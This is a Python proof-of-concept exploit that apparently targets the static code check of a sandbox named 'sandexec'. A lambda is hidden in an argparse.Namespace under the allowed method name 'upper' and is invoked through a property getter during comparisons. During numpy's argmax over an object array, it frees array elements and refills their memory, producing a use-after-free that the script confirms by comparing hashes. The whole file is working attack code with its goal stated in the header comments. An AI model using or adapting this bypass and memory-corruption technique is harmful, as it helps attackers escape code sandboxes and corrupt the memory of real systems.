# source: sandexec README, "The static check",: a comparison may read a property whose getter is held to the conversion rule, which allows calls named upper/strip/isoformat/...; argparse.Namespace keeps any keyword as an attribute
# family: comparison reads a property whose getter calls an allowed method name (upper) on an argparse.Namespace holding a lambda under that name
# goal: the lambda overwrites the object array numpy is running argmax over: use-after-free of the element numpy holds
import sys
import numpy as np
import pandas as pd

STAGE = [0]
KEEP = []
ADDR_P = []
ADDR_Q = []
MSG = "Q: made after the free, never put in ARR"


def mutate():
    STAGE[0] += 1
    if STAGE[0] == 1:
        # first comparison: drop the array's references to P0 and P1
        ARR[0] = None
        ARR[1] = None
    elif STAGE[0] == 2:
        # P0 and P1 are freed now; numpy still holds one of them as its max
        KEEP.append(Q(MSG))
        KEEP.append(Q(MSG))


class Q:
    __slots__ = ("v", "box")

    def __init__(self, v):
        self.v = v
        self.box = None
        ADDR_Q.append(hash(self))


import argparse


BOX = argparse.Namespace(upper=lambda: [mutate(), "x"][1])

class P:
    __slots__ = ("v", "box")

    def __init__(self, v, box):
        self.v = v
        self.box = box
        ADDR_P.append(hash(self))

    @property
    def key(self):
        return self.box.upper()

    def __gt__(self, other):
        return self.key is not None and self.v == "P"

    def __lt__(self, other):
        return self.key is not None and self.v == "P"


class Probe:
    __slots__ = ("v", "box")

    def __init__(self, box):
        self.v = "probe"
        self.box = box

    @property
    def key(self):
        return self.box.upper()

    def __gt__(self, other):
        return self.key is not None and other.v == "Q: made after the free, never put in ARR"

ARR = np.array([P("P", BOX), P("P", BOX), Probe(BOX), Probe(BOX)], dtype=object)
ADDR_P = ADDR_P[-2:]
i = ARR.argmax()
print("argmax =", i, "(2 means numpy compared a freed P slot that now holds a Q)")
print("freed P hashes:", ADDR_P, "new Q hashes:", ADDR_Q, "same memory:", sorted(ADDR_P) == sorted(ADDR_Q))
sys.stdout.flush()
